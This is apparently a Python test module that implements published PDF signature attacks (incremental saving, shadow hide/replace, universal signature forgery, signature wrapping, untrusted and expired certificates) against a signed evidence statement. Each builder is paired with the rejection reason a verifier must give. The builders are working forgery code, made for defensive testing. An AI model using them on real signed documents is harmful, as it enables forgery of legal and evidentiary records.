"""The published attacks on PDF signatures, built against our signed statement.

Sources: Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar
Refund: How To Spoof PDF Signatures" (CCS 2019: incremental saving, universal signature
forgery, signature wrapping) and Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and
Replacing Content in Signed PDFs" (NDSS 2021: hide, replace, hide-and-replace).

Every builder takes the officer's genuine signed statement and returns the attacked
file. Changes after signing are made the way an attacker's tool makes them: with
pyHanko's incremental writer (the signed bytes stay a prefix of the result), or by
editing bytes in place; never by rewriting the file. Shadow attacks need content
prepared before signing, so they take the statement as it was before the officer signed
(the signature is one incremental update on the rendered file), prepare it, have it
signed with the officer's key, then switch the content in a later update.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime

from asn1crypto import keys as asn1_keys  # type: ignore[import-untyped]
from cryptography.hazmat.primitives import serialization
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko_certvalidator.registry import SimpleCertificateStore

from rvr_desktop.evidence.clock import Clock
from rvr_desktop.evidence.documents.model import SignatureBox
from rvr_desktop.evidence.signing.certs import to_asn1
from rvr_desktop.evidence.signing.credential import SigningCredential
from rvr_desktop.evidence.signing.officer import OfficerProfile
from rvr_desktop.evidence.signing.pdf_sign import SIGNATURE_FIELD, sign_pdf

FORGED = "I withdraw everything I said in this statement."


@dataclass(frozen=True)
class Kit:
    """What an attacker holds, besides the signed statement."""

    officer: OfficerProfile
    officer_key: SigningCredential
    """The officer's own key: shadow attacks have the officer sign a prepared file."""
    stranger_key: SigningCredential
    """A key whose root the evidence officer does not trust."""
    expired_key: SigningCredential
    """A key from a trusted root whose certificate expired before the signing time."""
    clock: Clock


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[bytes, Kit], bytes]
    reason: str
    """Words the statement check's reason must contain."""


# -- helpers -----------------------------------------------------------------------


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=True)


def _written(writer: IncrementalPdfFileWriter, before: bytes) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    result = out.getvalue()
    assert result.startswith(before), "an attack after signing must be an incremental update"
    return result


def _text_stream(text: str, x: float, y: float, size: float = 11) -> StreamObject:
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return StreamObject(
        stream_data=f"BT /RvrAttackFont {size} Tf {x} {y} Td ({escaped}) Tj ET".encode()
    )


def _helvetica() -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )


def _form_xobject(data: bytes, width: float, height: float) -> StreamObject:
    return StreamObject(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Form"),
            NameObject("/BBox"): ArrayObject(
                [
                    NumberObject(0),
                    NumberObject(0),
                    NumberObject(int(width)),
                    NumberObject(int(height)),
                ]
            ),
            NameObject("/Resources"): DictionaryObject(
                {
                    NameObject("/Font"): DictionaryObject(
                        {NameObject("/RvrAttackFont"): _helvetica()}
                    )
                }
            ),
        },
        stream_data=data,
    )


def _page(
    writer: IncrementalPdfFileWriter, index: int
) -> tuple[generic.IndirectObject, DictionaryObject]:
    ref = writer.find_page_for_modification(index)[0]  # type: ignore[no-untyped-call]
    return ref, ref.get_object()


def _add_to_page(
    writer: IncrementalPdfFileWriter,
    index: int,
    content: StreamObject,
    xobjects: dict[str, generic.IndirectObject],
) -> None:
    """Draw ``content`` after the page's own content, with our font and ``xobjects``."""
    ref, page = _page(writer, index)
    contents = page["/Contents"]
    existing = list(contents) if isinstance(contents, ArrayObject) else [page.raw_get("/Contents")]
    page[NameObject("/Contents")] = ArrayObject([*existing, writer.add_object(content)])
    resources = DictionaryObject(dict(page["/Resources"].items()))
    fonts = DictionaryObject(dict(resources["/Font"].items()) if "/Font" in resources else {})
    fonts[NameObject("/RvrAttackFont")] = writer.add_object(_helvetica())
    resources[NameObject("/Font")] = fonts
    if xobjects:
        named = DictionaryObject(
            dict(resources["/XObject"].items()) if "/XObject" in resources else {}
        )
        for name, xref in xobjects.items():
            named[NameObject(name)] = xref
        resources[NameObject("/XObject")] = named
    page[NameObject("/Resources")] = resources
    writer.update_container(page)
    writer.mark_update(ref)


def before_signing(signed: bytes) -> bytes:
    """The statement as rendered, before the officer's signature was appended to it."""
    reader = PdfFileReader(io.BytesIO(signed), strict=True)
    signature = reader.embedded_regular_signatures[0]
    xref_end = reader.xrefs.get_xref_container_info(signature.signed_revision - 1).end_location
    end = signed.index(b"%%EOF", xref_end) + len(b"%%EOF")
    return signed[:end] + b"\n"


def signature_box(signed: bytes) -> SignatureBox:
    """Where the officer's signature sits, to sign a prepared copy in the same place."""
    reader = PdfFileReader(io.BytesIO(signed), strict=True)
    pages = reader.root["/Pages"]["/Count"]
    for index in range(pages):
        page = reader.find_page_for_modification(index)[0].get_object()  # type: ignore[no-untyped-call]
        for annot in page.get("/Annots", ArrayObject()):
            annot = annot.get_object()
            if (
                annot.get("/FT") == "/Sig"
                or annot.get("/Parent", DictionaryObject()).get("/FT") == "/Sig"
            ):
                x1, y1, x2, y2 = (float(v) for v in annot["/Rect"])
                return SignatureBox(page_index=index, x1=x1, y1=y1, x2=x2, y2=y2)
    raise AssertionError("the signed statement has no signature widget")


def _sign_prepared(prepared: bytes, signed: bytes, kit: Kit, key: SigningCredential) -> bytes:
    return sign_pdf(prepared, key, kit.officer, signature_box(signed), clock=kit.clock)


def _signature_span(pdf: bytes) -> tuple[int, int]:
    """Where the signature dictionary's ``/Contents <...>`` and ``/ByteRange [...]`` sit."""
    byte_range = pdf.rindex(b"/ByteRange [")
    contents = pdf.rindex(b"/Contents <", 0, byte_range)
    return contents, byte_range


def _same_length(original: bytes, replacement: bytes) -> bytes:
    assert len(replacement) <= len(original)
    return replacement + b" " * (len(original) - len(replacement))


def _edit_in_place(pdf: bytes, start: int, old: bytes, new: bytes) -> bytes:
    assert pdf[start : start + len(old)] == old
    return pdf[:start] + _same_length(old, new) + pdf[start + len(old) :]


def _byte_range(pdf: bytes) -> tuple[int, bytes, list[int]]:
    at = pdf.rindex(b"/ByteRange [")
    close = pdf.index(b"]", at)
    text = pdf[at : close + 1]
    return at, text, [int(v) for v in text[len(b"/ByteRange [") : -1].split()]


# -- incremental saving (ISA) -----------------------------------------------------


def isa_add_page(signed: bytes, kit: Kit) -> bytes:
    writer = _writer(signed)
    _, first = _page(writer, 0)
    page = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Page"),
            NameObject("/MediaBox"): first["/MediaBox"],
            NameObject("/Resources"): DictionaryObject(
                {
                    NameObject("/Font"): DictionaryObject(
                        {NameObject("/RvrAttackFont"): _helvetica()}
                    )
                }
            ),
            NameObject("/Contents"): writer.add_object(
                _text_stream("ADDENDUM: " + FORGED, 50, 760)
            ),
        }
    )
    writer.insert_page(page)  # type: ignore[no-untyped-call]
    return _written(writer, signed)


def isa_change_text(signed: bytes, kit: Kit) -> bytes:
    writer = _writer(signed)
    _, page = _page(writer, 0)
    original = page["/Contents"]
    data = original.data
    assert b"(Teaching assistant)" in data
    changed = StreamObject(stream_data=data.replace(b"(Teaching assistant)", b"(Unemployed)"))
    page[NameObject("/Contents")] = writer.add_object(changed)
    writer.update_container(page)
    return _written(writer, signed)


def isa_change_annotation(signed: bytes, kit: Kit) -> bytes:
    """Give the signature's widget a new appearance: another name in the signature box."""
    writer = _writer(signed)
    box = signature_box(signed)
    _, page = _page(writer, box.page_index)
    widget = page["/Annots"][0].get_object()
    appearance = _form_xobject(
        b"BT /RvrAttackFont 9 Tf 4 30 Td (Digitally signed by Someone Else) Tj ET",
        box.x2 - box.x1,
        box.y2 - box.y1,
    )
    widget[NameObject("/AP")] = DictionaryObject({NameObject("/N"): writer.add_object(appearance)})
    writer.update_container(widget)
    return _written(writer, signed)


# -- shadow attacks -----------------------------------------------------------------


def shadow_hide(signed: bytes, kit: Kit) -> bytes:
    """Signed: forged words under a white cover. After: the cover made empty, words shown."""
    writer = _writer(before_signing(signed))
    cover = writer.add_object(_form_xobject(b"1 g 0 0 500 20 re f", 500, 20))
    _add_to_page(
        writer,
        0,
        StreamObject(
            stream_data=(
                f"BT /RvrAttackFont 9 Tf 50 40 Td ({FORGED}) Tj ET "
                "q 1 0 0 1 45 35 cm /RvrCover Do Q"
            ).encode()
        ),
        {"/RvrCover": cover},
    )
    out = io.BytesIO()
    writer.write(out)
    prepared_and_signed = _sign_prepared(out.getvalue(), signed, kit, kit.officer_key)
    switch = _writer(prepared_and_signed)
    # The page's cover now names an empty drawing: the words beneath it show.
    ref, page = _page(switch, 0)
    resources = DictionaryObject(dict(page["/Resources"].items()))
    named = DictionaryObject(dict(resources["/XObject"].items()))
    named[NameObject("/RvrCover")] = switch.add_object(_form_xobject(b"", 500, 20))
    resources[NameObject("/XObject")] = named
    page[NameObject("/Resources")] = resources
    switch.mark_update(ref)
    return _written(switch, prepared_and_signed)


def shadow_replace(signed: bytes, kit: Kit) -> bytes:
    """Signed: a form field showing the occupation. After: the field's value replaced."""
    writer = _writer(before_signing(signed))
    page_ref, _ = _page(writer, 0)
    shown = writer.add_object(
        _form_xobject(b"BT /RvrAttackFont 8.5 Tf 2 4 Td (Teaching assistant) Tj ET", 200, 14)
    )
    field = writer.add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Tx"),
                NameObject("/T"): generic.TextStringObject("occupation"),
                NameObject("/V"): generic.TextStringObject("Teaching assistant"),
                NameObject("/F"): NumberObject(4),
                NameObject("/P"): page_ref,
                NameObject("/Rect"): ArrayObject([NumberObject(v) for v in (162, 689, 362, 703)]),
                NameObject("/AP"): DictionaryObject({NameObject("/N"): shown}),
            }
        )
    )
    _, page = _page(writer, 0)
    page[NameObject("/Annots")] = ArrayObject([field])
    writer.update_container(page)
    writer.root[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([field])}
    )
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    prepared_and_signed = _sign_prepared(out.getvalue(), signed, kit, kit.officer_key)
    switch = _writer(prepared_and_signed)
    widget = _page(switch, 0)[1]["/Annots"][0].get_object()
    widget[NameObject("/V")] = generic.TextStringObject("Unemployed")
    replaced = _form_xobject(b"BT /RvrAttackFont 8.5 Tf 2 4 Td (Unemployed) Tj ET", 200, 14)
    widget[NameObject("/AP")] = DictionaryObject({NameObject("/N"): switch.add_object(replaced)})
    switch.update_container(widget)
    return _written(switch, prepared_and_signed)


def shadow_hide_and_replace(signed: bytes, kit: Kit) -> bytes:
    """Signed: an unused second version of page 1. After: the page points at it."""
    writer = _writer(before_signing(signed))
    _, page = _page(writer, 0)
    data = page["/Contents"].data.replace(b"(Teaching assistant)", b"(Unemployed)")
    shadow = writer.add_object(StreamObject(stream_data=data))
    out = io.BytesIO()
    writer.write(out)
    prepared_and_signed = _sign_prepared(out.getvalue(), signed, kit, kit.officer_key)
    switch = _writer(prepared_and_signed)
    ref, page = _page(switch, 0)
    page[NameObject("/Contents")] = shadow
    switch.mark_update(ref)
    return _written(switch, prepared_and_signed)


# -- universal signature forgery (USF) -------------------------------------------


def usf_no_contents(signed: bytes, kit: Kit) -> bytes:
    at, _ = _signature_span(signed)
    return _edit_in_place(signed, at, b"/Contents", b"/Contentz")


def _contents_replaced(signed: bytes, value: bytes) -> bytes:
    at, _ = _signature_span(signed)
    start = at + len(b"/Contents ")
    end = signed.index(b">", start) + 1
    return _edit_in_place(signed, start, signed[start:end], value)


def usf_empty_contents(signed: bytes, kit: Kit) -> bytes:
    return _contents_replaced(signed, b"<>")


def usf_null_contents(signed: bytes, kit: Kit) -> bytes:
    return _contents_replaced(signed, b"null")


def usf_no_byte_range(signed: bytes, kit: Kit) -> bytes:
    at, _, _ = _byte_range(signed)
    return _edit_in_place(signed, at, b"/ByteRange", b"/ByteRangz")


def usf_malformed_byte_range(signed: bytes, kit: Kit) -> bytes:
    at, text, (start, first, second, _) = _byte_range(signed)
    return _edit_in_place(signed, at, text, f"/ByteRange [{start} {first} {second}]".encode())


def usf_partial_byte_range(signed: bytes, kit: Kit) -> bytes:
    at, text, (start, first, second, length) = _byte_range(signed)
    return _edit_in_place(
        signed, at, text, f"/ByteRange [{start} {first} {second} {length // 2}]".encode()
    )


# -- signature wrapping (SWA) -----------------------------------------------------


def signature_wrapping(signed: bytes, kit: Kit) -> bytes:
    """Move the signed bytes after the signature to make room for new content.

    The file becomes: the signed bytes before the signature value, the value, then new
    content (a copy of the signature dictionary whose /ByteRange points at the moved
    bytes, a forged page content, and a new cross-reference table placed exactly where
    the moved-away original one was), then the original signed bytes, unchanged. The
    digest over the new /ByteRange matches the signature, and the file ends where the
    signature says it ends; only the gap it leaves out now holds more than its value.
    """
    _, _, (_, first, second, length) = _byte_range(signed)
    assert second + length == len(signed)
    xref_at = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    assert xref_at > second
    reader = PdfFileReader(io.BytesIO(signed), strict=True)
    section = signed[xref_at : signed.index(b"trailer", xref_at)]
    trailer = signed[signed.index(b"trailer", xref_at) : signed.index(b"startxref", xref_at)]
    signature_id = reader.embedded_regular_signatures[0].sig_field.raw_get("/V").idnum
    page_content_id = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents").idnum
    # The signature dictionary as signed, to be copied with only its /ByteRange changed.
    object_start = signed.rindex(b"%d 0 obj" % signature_id, 0, first)
    signature_object = signed[object_start : signed.index(b"endobj", second) + len(b"endobj\n")]
    _, byte_range, _ = _byte_range(signed)
    page_content = reader.root["/Pages"]["/Kids"][0].get_object()["/Contents"].data
    forged_content = zlib.compress(page_content.replace(b"(Teaching assistant)", b"(Unemployed)"))

    def build(moved_to: int) -> tuple[bytes, int]:
        gap = bytearray(b"\n")
        offsets: dict[int, int] = {}
        offsets[signature_id] = second + len(gap)
        gap += signature_object.replace(
            byte_range, b"/ByteRange [0 %d %12d %d]" % (first, moved_to, length)
        )
        offsets[page_content_id] = second + len(gap)
        gap += (
            f"{page_content_id} 0 obj\n<< /Length {len(forged_content)} /Filter /FlateDecode >>"
            "\nstream\n"
        ).encode()
        gap += forged_content + b"\nendstream\nendobj\n"
        assert second + len(gap) <= xref_at
        gap += b" " * (xref_at - second - len(gap))
        shift = moved_to - second

        def moved(match: re.Match[bytes]) -> bytes:
            offset = int(match.group(1))
            return b"%010d" % (offset + shift if offset >= second else offset) + match.group(2)

        table = re.sub(rb"(\d{10})( \d{5} n)", moved, section)
        lines = table.split(b"\n")
        rows: list[bytes] = [b"xref"]
        number = 0
        for line in lines[1:]:
            parts = line.split()
            if len(parts) == 2:
                number = int(parts[0])
                rows.append(line)
            elif len(parts) == 3:
                rows.append(b"%010d %05d n " % (offsets[number], 0) if number in offsets else line)
                number += 1
        rows.append(b"%d 1" % page_content_id)
        rows.append(b"%010d 00000 n " % offsets[page_content_id])
        gap += (
            b"\n".join(rows)
            + b"\n"
            + trailer
            + b"startxref\n"
            + str(xref_at).encode()
            + b"\n%%EOF\n"
        )
        return bytes(gap), second + len(gap)

    gap, end = build(0)
    gap, end = build(end)
    assert end == second + len(gap)
    return signed[:second] + gap + signed[second:]


# -- appended bytes, extra revision, changed /ByteRange -----------------------------


def bytes_after_eof(signed: bytes, kit: Kit) -> bytes:
    return signed + b"\n99 0 obj\n(" + FORGED.encode() + b")\nendobj\n"


def second_revision(signed: bytes, kit: Kit) -> bytes:
    """An update that only re-saves the document (pyHanko's writer, nothing changed)."""
    writer = _writer(signed)
    writer.update_root()
    return _written(writer, signed)


def changed_byte_range(signed: bytes, kit: Kit) -> bytes:
    at, text, (start, first, second, length) = _byte_range(signed)
    return _edit_in_place(
        signed, at, text, f"/ByteRange [{start} {first - 1} {second} {length}]".encode()
    )


# -- certificates -------------------------------------------------------------------


def signed_by_stranger(signed: bytes, kit: Kit) -> bytes:
    return _sign_prepared(before_signing(signed), signed, kit, kit.stranger_key)


def signed_by_expired_certificate(signed: bytes, kit: Kit) -> bytes:
    """Signed now with a certificate that expired before now (our signer refuses this)."""
    key = kit.expired_key
    signer = signers.SimpleSigner(
        signing_cert=to_asn1(key.certificate),
        signing_key=asn1_keys.PrivateKeyInfo.load(
            key.private_key.private_bytes(
                serialization.Encoding.DER,
                serialization.PrivateFormat.PKCS8,
                serialization.NoEncryption(),
            )
        ),
        cert_registry=SimpleCertificateStore.from_certs([to_asn1(c) for c in key.chain]),  # type: ignore[no-untyped-call]
    )
    box = signature_box(signed)
    writer = _writer(before_signing(signed))
    meta = signers.PdfSignatureMetadata(
        field_name=SIGNATURE_FIELD, md_algorithm="sha256", subfilter=fields.SigSeedSubFilter.PADES
    )
    spec = fields.SigFieldSpec(
        SIGNATURE_FIELD,
        on_page=box.page_index,
        box=(int(box.x1), int(box.y1), int(box.x2), int(box.y2)),
    )
    out = signers.PdfSigner(meta, signer, new_field_spec=spec).sign_pdf(writer)
    return bytes(out.getvalue())


def _at(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%d")


ATTACKS: tuple[Attack, ...] = (
    Attack("ISA: a page added after signing", isa_add_page, "changed after signing"),
    Attack("ISA: page text changed after signing", isa_change_text, "changed after signing"),
    Attack(
        "ISA: the signature's appearance changed", isa_change_annotation, "changed after signing"
    ),
    Attack("shadow: hide", shadow_hide, "changed after signing"),
    Attack("shadow: replace (form field value)", shadow_replace, "changed after signing"),
    Attack(
        "shadow: hide-and-replace (page switched)", shadow_hide_and_replace, "changed after signing"
    ),
    Attack("USF: /Contents missing", usf_no_contents, "has no /Contents"),
    Attack("USF: /Contents empty", usf_empty_contents, "/Contents is empty"),
    Attack("USF: /Contents null", usf_null_contents, "/Contents is not a signature value"),
    Attack("USF: /ByteRange missing", usf_no_byte_range, "has no /ByteRange"),
    Attack("USF: /ByteRange malformed", usf_malformed_byte_range, "/ByteRange is malformed"),
    Attack(
        "USF: /ByteRange not covering the whole file",
        usf_partial_byte_range,
        "does not cover the whole file",
    ),
    Attack("SWA: signed bytes moved, content inserted", signature_wrapping, "/ByteRange gap"),
    Attack("bytes after %%EOF", bytes_after_eof, "does not cover the whole file"),
    Attack("a second, unsigned revision", second_revision, "changed after signing"),
    Attack("/ByteRange changed", changed_byte_range, "/ByteRange gap"),
    Attack(
        "signed by an untrusted certificate",
        signed_by_stranger,
        "does not chain to any trusted root",
    ),
    Attack(
        "signed by an expired certificate",
        signed_by_expired_certificate,
        "not valid at the signing time",
    ),
)
